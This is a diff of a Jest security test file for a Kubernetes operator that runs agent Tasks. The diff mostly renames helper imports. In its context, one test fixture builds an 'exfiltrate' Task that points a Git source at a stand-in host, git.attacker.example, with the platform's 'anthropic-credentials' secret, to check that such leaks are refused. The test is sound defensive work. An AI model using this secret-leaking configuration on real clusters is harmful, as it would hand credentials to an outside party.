@@ -13,9 +13,11 @@
  */
 import { jest } from '@jest/globals';
 import { CoreV1Api, CustomObjectsApi, KubeConfig, RbacAuthorizationV1Api, V1Pod } from '@kubernetes/client-node';
+import { isApiError, tokenKubeConfig } from '../../harness/kube.js';
+import { waitFor } from '../../harness/wait.js';
 import { formatTerminationMessage } from '../../src/api/outputs-format.js';
 import { TaskObject } from '../../src/reconciler/objects.js';
-import { apiErrorMessage, isApiError, tokenKubeConfig, waitFor } from '../cluster/helpers.js';
+import { apiMessage } from '../../src/reconciler/runtime/api-errors.js';
 import { condition, Scenario } from '../reconciler/support.js';
 
 jest.setTimeout(90_000);
@@ -141,7 +143,7 @@ test('she cannot choose the Pod\'s image, service account, privileges or labels:
   };
   // Strict field validation (kubectl's default) refuses the Task, naming every field.
   const refusal = await asAlice.custom.createNamespacedCustomObject({ ...G, namespace: teamA, plural: 'tasks', body: task('sneaky', sneaky), fieldValidation: 'Strict' })
-    .then(() => 'created', apiErrorMessage);
+    .then(() => 'created', apiMessage);
   for (const field of ['spec.image', 'spec.executorImage', 'spec.serviceAccountName', 'spec.securityContext', 'spec.podSpec']) expect(refusal).toContain(`unknown field "${field}"`);
   expect(refusal).toContain('(HTTP 400)');
 
@@ -173,7 +175,7 @@ test('a Task cannot make the Agent\'s Pod hand one of the platform\'s Secrets to
     { type: 'Git', git: { repository: 'https://git.attacker.example/r.git', secretRef: { name: 'anthropic-credentials' } }, mountPath: 'src' },
   ];
   const refusal = await asAlice.custom.createNamespacedCustomObject({ ...G, namespace: teamA, plural: 'tasks', body: task('exfiltrate', { description: 'x', agentRef, contexts }) })
-    .then(() => undefined, apiErrorMessage);
+    .then(() => undefined, apiMessage);
   if (refusal === undefined) {
     // Accepted by the API server: then the reconciler must refuse it, saying why, before any Pod exists.
     const t = await s.waitForTask(teamA, 'exfiltrate', (x) => x.status?.phase === 'Failed' || !!x.status?.podName, 'refused, or given a Pod');
